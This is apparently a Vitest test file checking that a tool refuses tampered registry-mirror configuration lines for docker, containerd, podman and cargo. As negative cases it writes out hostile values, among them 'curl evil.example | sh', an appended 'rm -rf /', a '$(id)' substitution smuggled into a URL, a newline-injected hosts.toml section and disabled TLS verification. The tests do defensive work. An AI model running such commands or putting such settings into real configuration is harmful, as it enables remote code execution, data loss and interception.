import { describe, expect, it, test } from 'vitest';
import { isAsRendered } from '../../../src/config/rendered.ts';
import { registry } from '../../../src/ecosystems/registry.ts';
import { saySentence } from '../../../src/words/tell.ts';
import { english } from '../../../src/words/words.ts';

/** What a daemon sends about each client and profile without variables. */
const remedies = registry.all.flatMap(({ id: ecosystem, clients }) =>
  clients
    .filter(({ variables }) => Object.keys(variables).length === 0)
    .flatMap((client) =>
      [undefined, ...Object.keys(client.profileForms ?? {})].map((profile) => {
        const chain =
          ecosystem === 'oci'
            ? { before: 'https://a.example|direct', after: 'https://b.example|https://a.example|direct' }
            : { before: 'https://a.example/x', after: 'https://b.example/y' };
        const [before, after] = [chain.before, chain.after].map((text) => {
          const parsed = client.parse(text);
          if (parsed.tag === 'error') throw new Error(text);
          return parsed.value;
        });
        if (before === undefined || after === undefined) throw new Error('two chains');
        const mirror = { url: 'https://b.example/y', own: { profile } };
        const upstream = 'docker.io';
        const { remedy, rollback } = client.remedy(before, after, [], { upstream, mirrors: [mirror] });
        const back = saySentence(rollback, english);
        return { what: `${client.id} ${profile ?? ''}`, ecosystem, upstream, chain, remedy, rollback: back };
      }),
    ),
);

describe('lines of a daemon', () => {
  it.each(remedies)('of $what are shown as they are rendered here', (foreign) => {
    expect(isAsRendered(foreign)).toBe(true);
  });

  it.each(remedies)('of $what are not shown if any of them differs', (foreign) => {
    const { remedy, rollback, chain } = foreign;
    const [form = 'hosts.toml', text = ''] = Object.entries(remedy).find(([key]) => key !== 'json') ?? [];
    const others = [
      { ...foreign, remedy: { [form]: `${text}\nskip_verify = true` } },
      { ...foreign, remedy: { [form]: text.replaceAll('b.example', 'evil.example') }, rollback: `${rollback}\nx` },
      { ...foreign, remedy: { env: 'curl evil.example | sh' } },
      { ...foreign, rollback: `${rollback}\nrm -rf /` },
      { ...foreign, chain: { ...chain, after: 'https://evil.example/$(id)' } },
      { ...foreign, chain: { ...chain, before: 'https://user:password@evil.example' } },
    ];
    expect(others.map(isAsRendered)).toEqual(others.map(() => false));
  });
});

const hosts = remedies.find(({ what }) => what === 'containerd ');

test('the file of the lines is the one of the client', () => {
  const docker = remedies.find(({ what }) => what === 'docker ');
  if (docker === undefined) throw new Error('no docker');
  const json = JSON.stringify({ 'daemon.json': { path: '/etc/sudoers' } });
  expect(isAsRendered({ ...docker, remedy: { ...docker.remedy, json } })).toBe(false);
});

test.each<[string, string, string, boolean]>([
  ['podman', 'https://a.example', 'http://registry.example', false],
  ['podman', 'http://registry.example', 'https://a.example', false],
  ['docker', 'https://a.example', 'http://registry.example', false],
  ['docker', 'https://a.example', 'http://127.0.0.1:5000', true],
  ['containerd', 'https://a.example', 'http://registry.example', true],
])('%s, from %s to %s: no line accepts unverified connections to another machine', (id, old, now, isShown) => {
  const client = registry.of('oci')?.clients.find((one) => one.id === id);
  const chain = { before: `${old}|direct`, after: `${now}|direct` };
  const [before, after] = [chain.before, chain.after].map((text) => client?.parse(text));
  if (client === undefined || before?.tag !== 'ok' || after?.tag !== 'ok') throw new Error(id);
  const { remedy, rollback } = client.remedy(before.value, after.value, [], { upstream: 'docker.io' });
  const back = saySentence(rollback, english);
  expect(isAsRendered({ ecosystem: 'oci', upstream: 'docker.io', chain, remedy, rollback: back })).toBe(isShown);
});

test('the upstream is a name, because lines contain it', () => {
  if (hosts === undefined) throw new Error('no containerd');
  const upstream = 'x/hosts.toml\n[host."https://evil.example"]\n#';
  const remedy = { 'hosts.toml': hosts.remedy['hosts.toml']?.replaceAll('docker.io', upstream) ?? '' };
  expect(isAsRendered({ ...hosts, upstream, remedy })).toBe(false);
});

test('a setting against HTTP/2 is known', () => {
  const cargo = remedies.find(({ what }) => what === 'cargo ');
  const own = registry.of('cargo')?.clients[0]?.withoutHttp2?.({});
  if (cargo === undefined || own == null) throw new Error('no cargo');
  const { set, unset } = own;
  const joined = (first: string | undefined, then: string | undefined) => `${first}\n${then}`;
  expect(isAsRendered({ ...cargo, remedy: set, rollback: unset['cargo'] ?? '' })).toBe(true);
  const both = { cargo: joined(cargo.remedy['cargo'], unset['cargo']) };
  expect(isAsRendered({ ...cargo, remedy: both, rollback: joined(cargo.rollback, set['cargo']) })).toBe(true);
  const more = { cargo: joined(cargo.remedy['cargo'], '[http]\ncheck-revoke = false') };
  expect(isAsRendered({ ...cargo, remedy: more })).toBe(false);
});
